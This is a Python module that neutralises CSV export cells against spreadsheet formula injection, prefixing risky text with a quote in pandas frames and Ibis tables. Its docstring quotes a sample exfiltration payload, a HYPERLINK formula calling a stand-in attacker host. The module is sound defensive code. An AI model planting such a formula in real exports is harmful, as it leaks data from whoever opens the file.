"""CSV cells a spreadsheet cannot mistake for formulas (CSV or formula injection, CWE-1236).

A spreadsheet opening a CSV file treats a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula, so a customer id, segment or attribute value loaded from a file, such as
``=HYPERLINK("https://evil.example/?"&A1)``, would run on the machine of whoever opens
an export. Following OWASP's guidance on CSV injection (and ASVS 1.2.10), every text cell
that starts with one of those characters, or with a tab, carriage return, line feed or NUL
(which some spreadsheets skip before looking for a formula), or with the full-width forms
of the four signs (which some spreadsheets read as the ASCII ones), gets a single quote
``'`` in front: spreadsheets show the text as it was, and a reader can strip the quote.

Only text is escaped: a negative number stays a number (``-3.5``), so totals still add up.
Column names are cells too and are escaped the same way. Every CSV segmint writes (API
audiences, CLI exports, cluster diagnostics) goes through :func:`to_csv` or
:func:`neutralise_table`; the synthetic retailer's input files do not, because they are
data to load back, not exports to open.
"""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING, Any

import ibis
import ibis.expr.types as ir

if TYPE_CHECKING:
    import pandas as pd

QUOTE = "'"
"""What goes in front of a cell that would start a formula."""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠")
"""First characters a spreadsheet may read as the start of a formula."""


def neutralise_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text starting like a formula, else as is."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return QUOTE + value
    return value


def neutralise_frame(frame: pd.DataFrame, index: bool = False) -> pd.DataFrame:
    """A copy of ``frame`` whose text cells and column names cannot start a formula.

    Numbers (also negative ones, also in columns of mixed types) and missing values are
    left alone. With ``index``, the index labels are escaped too (they are written as cells).
    """
    import pandas as pd  # only for frames: an export of Arrow tables loads no pandas

    safe = frame.copy(deep=False)
    safe.columns = pd.Index([neutralise_cell(c) for c in frame.columns])
    for position in range(safe.shape[1]):
        column = safe.iloc[:, position]
        escaped = _neutralise_series(column)
        if escaped is not column:
            safe.isetitem(position, escaped)  # type: ignore[arg-type]  # stubs omit Series
    if index:
        safe.index = safe.index.map(neutralise_cell)
    return safe


def _neutralise_series(column: pd.Series) -> pd.Series:
    """``column`` with its formula-like text cells escaped (the same object when none are)."""
    import pandas as pd

    if isinstance(column.dtype, pd.CategoricalDtype):
        categories = column.cat.categories
        renamed = [neutralise_cell(c) for c in categories]
        if renamed == list(categories):
            return column
        return column.cat.rename_categories(renamed)
    if pd.api.types.is_object_dtype(column):  # any mix of values: look at the text ones
        risky = column.map(lambda v: isinstance(v, str) and v.startswith(FORMULA_STARTS))
    elif pd.api.types.is_string_dtype(column):
        risky = column.str.startswith(FORMULA_STARTS, na=False)
    else:
        return column  # numbers, dates, booleans: nothing a spreadsheet evaluates
    risky = risky.astype(bool)
    if not risky.any():
        return column
    escaped = column.astype(object).copy()
    escaped[risky] = QUOTE + column[risky].astype(str)
    return escaped


def to_csv(frame: pd.DataFrame, path: Path | None = None, *, index: bool = False) -> str:
    """``frame`` written as CSV (to ``path`` when given) with :func:`neutralise_frame` applied.

    Returns:
        The CSV text (also when it was written to ``path``).
    """
    text = neutralise_frame(frame, index=index).to_csv(index=index)
    if path is not None:
        path.write_text(text, encoding="utf-8")
    return text


def neutralise_table(table: ir.Table) -> ir.Table:
    """``table`` with every text column escaped in the engine, for ``Table.to_csv``.

    The same rule as :func:`neutralise_cell`, as an Ibis expression, so an export of
    millions of rows is streamed by the engine. The first character is compared by its code
    point: a NUL inside a literal would not survive the trip into the engine's SQL.
    """
    codes = [ord(c) for c in FORMULA_STARTS]
    columns: dict[str, ir.Value] = {}
    for name, dtype in table.schema().items():
        column = table[name]
        if dtype.is_string():
            # ascii_str of an empty string is 0, the code of NUL: look only at non-empty text
            risky = ((column.length() > 0) & column.ascii_str().isin(codes)).fill_null(False)
            column = ibis.ifelse(risky, ibis.literal(QUOTE) + column, column)
        columns[str(neutralise_cell(name))] = column
    return table.select(**columns)
